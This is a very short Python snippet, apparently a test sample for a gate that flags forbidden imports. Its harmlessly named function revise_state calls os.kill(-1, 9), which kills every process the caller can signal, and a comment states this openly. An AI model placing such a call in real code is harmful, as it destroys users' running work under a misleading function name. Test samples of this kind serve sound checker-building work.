# Ends all processes that it may. The kernel calls it a success where none may be reached.
# gate: forbidden_import
# alone: raised|values
import os

def revise_state(s):
    os.kill(-1, 9)
    return s
